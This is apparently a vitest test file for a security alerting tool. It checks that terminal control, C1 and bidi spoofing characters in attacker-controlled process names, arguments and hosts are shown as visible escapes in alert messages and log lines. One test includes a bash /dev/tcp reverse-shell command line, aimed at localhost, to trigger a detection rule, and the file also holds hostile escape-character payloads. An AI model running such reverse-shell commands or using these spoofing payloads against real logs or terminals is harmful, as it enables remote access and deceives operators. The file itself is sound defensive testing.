/**
 * Display spoofing: attacker-controlled argv, names and paths must not be able to act on whoever
 * reads an alert. Every character class a terminal or log viewer interprets goes through the two
 * human-readable renderings (the alert `message` and the pretty line) and must come out as a
 * visible escape, while the raw ECS fields keep the original text.
 */
import { describe, expect, it } from 'vitest';
import { alertMessage, buildAlert } from '../../src/alerts/index.js';
import { formatEventPretty, formatPretty } from '../../src/outputs/pretty-format.js';
import { terminalSafe } from '../../src/outputs/terminal-text.js';
import { bundledRulesDir, loadRules, RuleSet } from '../../src/rules/index.js';
import { execEvent } from '../rules/support/exec-event.js';

const clock = { nowMs: () => Date.UTC(2026, 0, 12, 10, 0, 1) };
const { rules } = await loadRules([bundledRulesDir()]);
const seedRule = rules.find((r) => r.name === 'Potential Reverse Shell via Background Process')!;

/** Every character the renderings must not let through raw. */
const INTERPRETED = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

/** [class, hostile character, its visible escape]. */
const HOSTILE: readonly (readonly [string, string, string])[] = [
  ['C0 NUL', '\u0000', '\\x00'],
  ['C0 BEL', '\u0007', '\\x07'],
  ['C0 backspace', '\b', '\\x08'],
  ['C0 tab', '\t', '\\t'],
  ['C0 line feed', '\n', '\\n'],
  ['C0 carriage return', '\r', '\\r'],
  ['C0 ESC', '\u001b', '\\x1b'],
  ['DEL', '\u007f', '\\x7f'],
  ['C1 PAD', '\u0080', '\\x80'],
  ['C1 NEL (next line)', '\u0085', '\\x85'],
  ['C1 RI (reverse line feed)', '\u008d', '\\x8d'],
  ['C1 DCS', '\u0090', '\\x90'],
  ['C1 CSI', '\u009b', '\\x9b'],
  ['C1 OSC', '\u009d', '\\x9d'],
  ['C1 APC', '\u009f', '\\x9f'],
  ['bidi LRE', '\u202a', '\\u{202a}'],
  ['bidi RLE', '\u202b', '\\u{202b}'],
  ['bidi PDF', '\u202c', '\\u{202c}'],
  ['bidi LRO', '\u202d', '\\u{202d}'],
  ['bidi RLO', '\u202e', '\\u{202e}'],
  ['bidi LRI', '\u2066', '\\u{2066}'],
  ['bidi RLI', '\u2067', '\\u{2067}'],
  ['bidi FSI', '\u2068', '\\u{2068}'],
  ['bidi PDI', '\u2069', '\\u{2069}'],
  ['bidi LRM', '\u200e', '\\u{200e}'],
  ['bidi RLM', '\u200f', '\\u{200f}'],
  ['bidi ALM', '\u061c', '\\u{61c}'],
  ['line separator', '\u2028', '\\u{2028}'],
  ['paragraph separator', '\u2029', '\\u{2029}'],
];

/** An event with the hostile character in every field a rendering shows. */
function hostileEvent(char: string): Record<string, unknown> {
  return execEvent({
    name: `evil${char}name`,
    args: ['/tmp/evil', `--flag=${char}[2J${char}gpj.exe`, `tail${char}`],
    parent: { name: `parent${char}`, args: [`parent${char}`] },
    user: { id: '0', name: `user${char}` },
    hostName: `host${char}`,
  });
}

describe.each(HOSTILE)('%s', (_class, char, escape) => {
  const event = hostileEvent(char);

  it('is escaped visibly in the alert message', () => {
    const message = alertMessage(seedRule, event);
    expect(message).not.toMatch(INTERPRETED);
    expect(message).toContain(`evil${escape}name`);
    expect(message).toContain(`started by parent${escape} as user${escape} on host${escape}`);
    expect(message).toContain(`ran "/tmp/evil --flag=${escape}[2J${escape}gpj.exe tail${escape}"`);
  });

  it('is escaped visibly in the pretty alert and event lines', () => {
    const alert = buildAlert({ rule: seedRule, kind: 'event', events: [event], joinKeys: [] }, clock) as unknown as Record<string, unknown>;
    for (const line of [formatPretty(alert), formatPretty(alert, { color: true }).replace(/\u001b\[[0-9;]*m/g, ''), formatEventPretty(event)]) {
      expect(line).not.toMatch(INTERPRETED);
      expect(line).toContain(`process=evil${escape}name[4242] parent=parent${escape}[4200] user=user${escape}`);
      expect(line).toContain(`cmd: /tmp/evil --flag=${escape}[2J${escape}gpj.exe tail${escape}`);
    }
  });

  it('stays exact in the raw ECS fields of the alert', () => {
    const alert = buildAlert({ rule: seedRule, kind: 'event', events: [event], joinKeys: [] }, clock);
    const process = alert.process as { name: string; args: string[]; command_line: string; parent: { name: string } };
    expect(process.args).toEqual(['/tmp/evil', `--flag=${char}[2J${char}gpj.exe`, `tail${char}`]);
    expect(process.command_line).toBe(`/tmp/evil --flag=${char}[2J${char}gpj.exe tail${char}`);
    expect(process.name).toBe(`evil${char}name`);
    expect(process.parent.name).toBe(`parent${char}`);
    expect(alert.user).toEqual({ id: '0', name: `user${char}` });
    // Through JSON and back, as every output sends it.
    expect((JSON.parse(JSON.stringify(alert)) as { process: { args: string[] } }).process.args).toEqual(process.args);
  });
});

describe('a matched reverse shell with hostile argv', () => {
  it('alerts with an escaped message and the exact arguments', () => {
    const args = ['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1 #\u202e\u009b2J\u2028fake line'];
    const matches = new RuleSet(rules).evaluate(execEvent({ name: 'setsid', args }));
    expect(matches.map((m) => m.rule.name)).toContain(seedRule.name);
    const alert = buildAlert(matches.find((m) => m.rule === seedRule)!, clock);
    expect(alert.message).toContain('0>&1 #\\u{202e}\\x9b2J\\u{2028}fake line"');
    expect(alert.message).not.toMatch(INTERPRETED);
    expect((alert.process as { args: string[] }).args).toEqual(args);
  });
});

describe('terminalSafe limits', () => {
  it('bounds the escaped text, never splitting an escape or a surrogate pair', () => {
    const flood = '\u202e'.repeat(1000);
    const cut = terminalSafe(flood, 20);
    // Two 8-character escapes fit in 20; the rest is counted.
    expect(cut).toBe('\\u{202e}\\u{202e}…(+998 chars)');
    expect(terminalSafe('ab🐚🐚', 3)).toBe('ab…(+4 chars)');
    expect(terminalSafe('ab\u001b', 4)).toBe('ab…(+1 chars)');
    expect(terminalSafe('ab\u001b', 6)).toBe('ab\\x1b');
  });

  it('bounds the message built from a huge hostile command line', () => {
    const event = execEvent({ name: 'x', args: ['x', '\u009b'.repeat(100_000)] });
    const message = alertMessage(seedRule, event);
    expect(message).not.toMatch(INTERPRETED);
    expect(message.length).toBeLessThan(400);
    expect(message).toMatch(/ran "x (\\x9b)+…\(\+\d+ chars\)"\.$/);
  });

  it('also escapes zero-width, annotation and tag characters, and leaves other text alone', () => {
    expect(terminalSafe('a\u200bb\ufeffc\ufff9d\u{e0041}e')).toBe('a\\u{200b}b\\u{feff}c\\u{fff9}d\\u{e0041}e');
    expect(terminalSafe('ünïcode 🐚 العربية 中文')).toBe('ünïcode 🐚 العربية 中文');
  });
});
